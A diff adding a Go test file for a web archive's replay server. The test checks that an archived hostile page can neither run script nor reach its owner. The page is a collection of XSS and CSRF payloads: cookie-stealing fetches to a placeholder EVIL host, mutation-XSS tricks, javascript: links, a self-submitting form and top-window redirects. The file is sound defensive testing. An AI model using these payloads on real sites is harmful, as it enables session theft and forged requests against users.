@@ -1,0 +1,166 @@
+package web
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"plat"
+	"plat/storage"
+)
+
+// hostilePage tries what a page could want of those who look at it in an archive:
+// their cookies, their window, a request with their rights, or only to be noticed
+// by its owner. All of it is in what is archived, and some of it is written so
+// that a rewriter and a browser would read it differently.
+const hostilePage = `<!doctype html><html><head><title>Hostile</title>
+<meta http-equiv="refresh" content="1;url=EVIL/refresh">
+<base target="_top">
+<link rel="stylesheet" href="EVIL/style.css"><link rel="preload" as="image" href="EVIL/preload.png"><link rel="dns-prefetch" href="//evil.test">
+<style>@import "EVIL/import.css"; body { background: url(EVIL/background.png) } @font-face { font-family: x; src: url(EVIL/font.woff) }</style>
+</head><body onload="fetch('EVIL/onload')" style="font-family: x; background-image: url('EVIL/inline.png')">
+<p>A page that means harm, with text enough to be a block of its own, so that it is archived.</p>
+<script>window.name = 'hostile'; fetch('EVIL/script?' + document.cookie); parent.postMessage('hostile', '*')</script>
+<img src="EVIL/pixel.png" srcset="EVIL/pixel2.png 2x" onerror="fetch('EVIL/onerror')">
+<img src="data:image/png;base64,AAAA" onerror="fetch('/api/v1/urls', { method: 'POST', body: 'http://evil.test/' })">
+<svg><style><img src=x onerror="fetch('EVIL/mutation')"></style><script>fetch('EVIL/svgscript')</script><a xlink:href="javascript:fetch('EVIL/svglink')"><text y="20">x</text></a></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('EVIL/mxss')&gt;"></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror=fetch('EVIL/noscript')>"></noscript>
+<iframe src="EVIL/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.parent.location='EVIL/top'&lt;/script&gt;"></iframe>
+<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" poster="EVIL/poster.png" autoplay></video>
+<form id="f" action="/api/v1/urls" method="post"><input name="url" value="http://evil.test/"><button id="send" autofocus>Send</button></form>
+<a id="top" href="EVIL/click" target="_top">top</a> <a id="js" href="javascript:fetch('EVIL/jslink')">js</a> <a id="ping" href="#x" ping="EVIL/ping">ping</a>
+<template shadowrootmode="open"><script>fetch('EVIL/shadow')</script></template>
+<script>top.location = 'EVIL/top'; document.forms[0].submit()</script>
+</body></html>`
+
+// commitPage stores html as a version of url with one block, without asking a
+// browser what is left of it.
+func commitPage(ctx context.Context, store storage.Store, url, html, title string) error {
+	layout := plat.Layout{Slots: []int32{0}}
+	v := &plat.Version{
+		URL: url, N: 1, Taken: time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC), Layout: layout.Sum(), Level: 3, Profile: "visual", Lineages: 1,
+		Capture: plat.Capture{FinalURL: url, Status: 200, ContentType: "text/html", Title: title, Width: 1280, Height: 1024, PageBytes: int64(len(html))},
+		Blocks: []plat.Block{
+			{Parent: -1, Run: 1, Slot: -1, Tag: "html", Box: plat.Rect{W: 1280, H: 1024}},
+			{Path: []int32{0}, Run: 1, Level: 1, Tag: "html", Box: plat.Rect{W: 1280, H: 1024}, Hash: plat.HashOf([]byte(html)), Content: []byte(html),
+				Topic: title, Because: title, Label: plat.LabelMain, Lineage: 1, TextLen: 100},
+		},
+	}
+	visit := plat.Visit{URL: url, Time: v.Taken, Outcome: plat.OutcomeNew, Version: 1, Status: 200}
+	if _, err := store.Commit(ctx, &storage.Commit{Version: v, Layout: layout, Visit: visit}); err != nil {
+		return err
+	}
+	return store.Index(ctx, nil)
+}
+
+func TestAHostilePageGetsNowhere(t *testing.T) {
+	var mu sync.Mutex
+	var asked []string
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		asked = append(asked, r.URL.String())
+		mu.Unlock()
+	}))
+	defer evil.Close()
+	html := strings.ReplaceAll(hostilePage, "EVIL", evil.URL)
+
+	store := made(t)
+	const u = "http://hostile.test/"
+	if err := commitPage(t.Context(), store, u, html, `<script>fetch("/api/v1/urls",{method:"POST"})</script>`); err != nil {
+		t.Fatal(err)
+	}
+	var posts int
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == "POST" {
+			mu.Lock()
+			posts++
+			mu.Unlock()
+		}
+		New(Options{Store: store, Take: http.HandlerFunc(func(http.ResponseWriter, *http.Request) {})}).ServeHTTP(w, r)
+	}))
+	defer srv.Close()
+
+	v, err := store.Version(t.Context(), u, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newEye(t, srv.URL)
+	e.window(1280, 900, 1)
+	for _, path := range []string{
+		"/replay?u=" + url.QueryEscape(u), "/replay?by=age&u=" + url.QueryEscape(u), "/frame?u=" + url.QueryEscape(u), mementoPath(u, v.Taken),
+		"/version?u=" + url.QueryEscape(u), "/block?lineage=1&u=" + url.QueryEscape(u), "/search?q=harm", "/url?u=" + url.QueryEscape(u),
+	} {
+		e.open(path)
+		e.do()
+		time.Sleep(1300 * time.Millisecond) // longer than the page waits to send its reader away
+		if at := see[string](e, `location.pathname`); !strings.HasPrefix(path, at) {
+			t.Errorf("%s: the window is at %s now", path, at)
+		}
+		if name := see[string](e, `window.name`); name != "" {
+			t.Errorf("%s: a script of the page ran", path)
+		}
+	}
+	// A reader clicks on everything.
+	e.open(mementoPath(u, v.Taken))
+	for _, id := range []string{"send", "top", "js", "ping"} {
+		if !see[bool](e, `!!document.getElementById('`+id+`')`) {
+			t.Fatalf("%s is not in the replay: the test would show nothing", id)
+		}
+		see[bool](e, `document.getElementById('`+id+`').click(), true`)
+		time.Sleep(200 * time.Millisecond)
+		if at := see[string](e, `location.host`); at != strings.TrimPrefix(srv.URL, "http://") {
+			t.Errorf("a click on %s leads out, to %s", id, at)
+		}
+		e.open(mementoPath(u, v.Taken))
+	}
+	if origin := see[string](e, `self.origin`); origin != "null" {
+		t.Errorf("the replay is in the origin %q, not in one of its own", origin)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(asked) > 0 {
+		t.Errorf("the page reached its owner: %q", asked)
+	}
+	if posts > 0 {
+		t.Errorf("the page posted to the interface, %d times", posts)
+	}
+}
+
+func TestWithoutRewritingAPageGetsNowhereEither(t *testing.T) {
+	var mu sync.Mutex
+	var asked []string
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		asked = append(asked, r.URL.String())
+		mu.Unlock()
+	}))
+	defer evil.Close()
+	posts := 0
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == "POST" {
+			posts++
+		}
+		replayHeaders(w.Header())
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, strings.ReplaceAll(hostilePage, "EVIL", evil.URL))
+	}))
+	defer srv.Close()
+	e := newEye(t, srv.URL)
+	e.open("/")
+	time.Sleep(1500 * time.Millisecond)
+	if at := see[string](e, `location.pathname`); at != "/" {
+		t.Errorf("the window is at %s now", at)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(asked) > 0 || posts > 0 {
+		t.Errorf("the policy alone lets a page reach its owner by %q, and post %d times", asked, posts)
+	}
+}
